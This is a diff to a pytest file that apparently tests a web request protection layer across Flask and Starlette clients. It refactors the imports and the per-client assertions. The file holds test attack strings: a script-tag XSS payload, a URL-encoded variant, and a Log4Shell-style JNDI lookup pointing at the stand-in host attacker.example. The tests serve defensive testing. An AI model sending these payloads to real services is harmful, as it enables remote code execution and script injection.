@@ -7,13 +7,12 @@ from typing import Any
 
 import pytest
 
-from tests.protection.shops import FlaskClient, StarletteClient, ran
+from tests.protection.shop import ran
+from tests.protection.shops import CLIENTS
 
 XSS = "<script>alert(1)</script>"
 JNDI = "${jndi:ldap://attacker.example/a}"
 QUOTED = "%3Cscript%3Ealert(1)%3C/script%3E"
-
-CLIENTS = {"flask": FlaskClient, "starlette": StarletteClient, "layered": lambda: StarletteClient(layered=True)}
 
 
 @pytest.fixture(params=list(CLIENTS))
@@ -104,16 +103,14 @@ def test_names_of_files(client: Any, blocking: None, findings: Any) -> None:
 def test_a_body_that_nobody_reads_is_not_looked_at(client: Any, blocking: None, findings: Any) -> None:
     body = json.dumps({"a": XSS}).encode()
     assert client("/body/ignored", "POST", {"Content-Type": "application/json"}, body).status in (200, 403)
-    if client.__class__ is FlaskClient:
-        assert findings() == []
+    assert findings() == [] or client.reads_ignored
 
 
 def test_a_body_read_in_part_is_looked_at_before_the_answer(client: Any, blocking: None, findings: Any) -> None:
     body = [XSS.encode(), b" and more"]
     answer = client("/body/part", "POST", {"Content-Type": "text/plain"}, body)
     assert answer.status in (200, 403)
-    starlette = isinstance(client, StarletteClient)
-    assert bool(findings()) == starlette  # the first ten bytes, on Flask, are no attack
+    assert bool(findings()) == client.tells_of_parts  # the first ten bytes are no attack
 
 
 def test_bodies_longer_than_the_limit(client: Any, protected: Any, findings: Any) -> None:
